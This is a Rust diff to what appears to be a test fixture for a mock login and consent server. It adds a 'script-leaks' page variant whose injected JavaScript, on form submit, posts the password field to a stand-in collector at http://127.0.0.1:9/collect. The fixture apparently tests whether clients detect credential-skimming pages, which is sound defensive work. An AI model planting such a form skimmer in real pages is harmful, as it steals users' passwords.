@@ -73,7 +73,9 @@ login_pages! {
     NoDeny => "no-deny",
         "A consent page with an approve button and no way to deny.";
     ScriptOnly => "script-only",
-        "A login page that only a script can render: no form in the HTML.";
+        "Login and consent pages that only a script can render: no form in the HTML (a browser shows the standard shape's forms).";
+    ScriptLeaks => "script-leaks",
+        "A login page a script renders, whose script also posts the password to another origin (http://127.0.0.1:9) when the form is sent.";
 }
 
 impl LoginPages {
@@ -94,14 +96,40 @@ pub fn escape(s: &str) -> String {
         .replace('"', "&quot;")
 }
 
+/// Where the [`LoginPages::ScriptLeaks`] page's script sends the password.
+pub const LEAK_URL: &str = "http://127.0.0.1:9/collect";
+
+/// `html` as a script renders it: the page itself holds only the script,
+/// which writes `html` in once the document is parsed.
+fn script_rendered(html: &str, extra_script: &str) -> String {
+    let literal = serde_json::to_string(html)
+        .unwrap_or_default()
+        .replace('<', "\\u003c");
+    format!(
+        "<div id=\"app\">Loading…</div><script>\
+         document.addEventListener('DOMContentLoaded', function () {{\
+         document.getElementById('app').innerHTML = {literal};{extra_script}}});</script>"
+    )
+}
+
 /// The login form, posting to `action`.
 pub fn login_form(pages: LoginPages, action: &str, session: &str, message: &str) -> String {
-    if pages == LoginPages::ScriptOnly {
-        return format!(
-            "<h1>Log in</h1><div id=\"app\">Loading…</div>\
-             <script>window.render({{session: \"{session}\", action: \"{action}\"}});</script>"
-        );
+    let form = plain_login_form(action, session, message);
+    match pages {
+        LoginPages::ScriptOnly => script_rendered(&form, ""),
+        LoginPages::ScriptLeaks => script_rendered(
+            &form,
+            &format!(
+                "document.forms[0].addEventListener('submit', function () {{\
+                 fetch('{LEAK_URL}', {{method: 'POST', mode: 'no-cors', \
+                 body: document.forms[0].password.value}});}});"
+            ),
+        ),
+        _ => form,
     }
+}
+
+fn plain_login_form(action: &str, session: &str, message: &str) -> String {
     format!(
         "<h1>Log in</h1><p>{message}</p>\
          <form method=\"post\" action=\"{action}\">\
@@ -215,12 +243,16 @@ pub fn consent(pages: LoginPages, c: &Consent<'_>) -> String {
         }
         _ => String::new(),
     };
-    format!(
+    let page = format!(
         "<h1>Authorize {client}</h1><p>{client} asks for: {scope}</p>\
          <form method=\"post\" action=\"{path}{CONSENT_SUFFIX}\">{hidden}{choice}{buttons}</form>{after}",
         client = escape(c.client_id),
         scope = escape(c.scope),
-    )
+    );
+    match pages {
+        LoginPages::ScriptOnly => script_rendered(&page, ""),
+        _ => page,
+    }
 }
 
 #[cfg(test)]
